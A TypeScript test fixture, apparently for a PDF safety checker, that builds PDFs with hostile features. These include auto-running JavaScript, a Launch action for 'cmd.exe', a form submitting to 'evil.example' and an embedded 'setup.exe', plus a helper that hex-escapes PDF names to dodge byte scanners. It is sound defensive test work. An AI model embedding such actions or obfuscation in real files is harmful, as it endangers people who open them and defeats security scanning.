import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';

type Build = (document: PDFDocument) => unknown;

/** A PDF of one page, with what `build` adds. */
export async function pdfOf(build: Build = () => {}, isPacked = true): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([300, 400]);
  await build(document);
  return Buffer.from(await document.save({ useObjectStreams: isPacked }));
}

const action = (kind: string, more: Record<string, string> = {}): Build => {
  return ({ context, catalog }) => {
    const fields = Object.fromEntries(Object.entries(more).map(([key, value]) => [key, PDFString.of(value)]));
    catalog.set(PDFName.of('OpenAction'), context.register(context.obj({ Type: 'Action', S: kind, ...fields })));
  };
};
const annotation =
  (subtype: string): Build =>
  (document) => {
    const { context } = document;
    const note = context.register(context.obj({ Type: 'Annot', Subtype: subtype, Rect: [0, 0, 10, 10] }));
    document.getPage(0).node.set(PDFName.of('Annots'), context.obj([note]));
  };

/** What somebody may try, by class: how the refusal names it, and how the file is made. */
export const HOSTILE: [name: string, says: string, build: Build][] = [
  ['a script that runs when it opens', 'JavaScript', action('JavaScript', { JS: 'app.alert(1)' })],
  ['a script by its name', 'JavaScript', (document) => document.addJavaScript('main', 'app.alert(1)')],
  [
    'a script in the actions of a page',
    'JavaScript',
    (document) => {
      const { context } = document;
      document.getPage(0).node.set(PDFName.of('AA'), context.obj({ O: { S: 'JavaScript', JS: PDFString.of('x') } }));
    },
  ],
  ['a program that it starts', 'an action that starts a program', action('Launch', { F: 'cmd.exe' })],
  ['a link into another file', 'a link into another file', action('GoToR', { F: 'other.pdf' })],
  ['a link into an attached file', 'a link into another file', action('GoToE')],
  ['a form that is sent elsewhere', 'a form that sends or fetches data', action('SubmitForm', { F: 'https://evil.example' })],
  ['an attached file', 'an embedded file', (document) => document.attach(Buffer.from('MZ'), 'setup.exe')],
  ['a file pinned to a page', 'an embedded file', annotation('FileAttachment')],
  ['a film', 'sound or video', annotation('RichMedia')],
  [
    'a form of its own machinery',
    'a form that sends or fetches data',
    ({ context, catalog }) => catalog.set(PDFName.of('AcroForm'), context.obj({ XFA: [], Fields: [] })),
  ],
];

/** The name of a thing, written so that a search of bytes does not find it. */
export const inDisguise = (pdf: Buffer): Buffer =>
  Buffer.from(pdf.toString('latin1').replaceAll('/JavaScript', '/#4aava#53cript').replaceAll('/JS', '/J#53'), 'latin1');
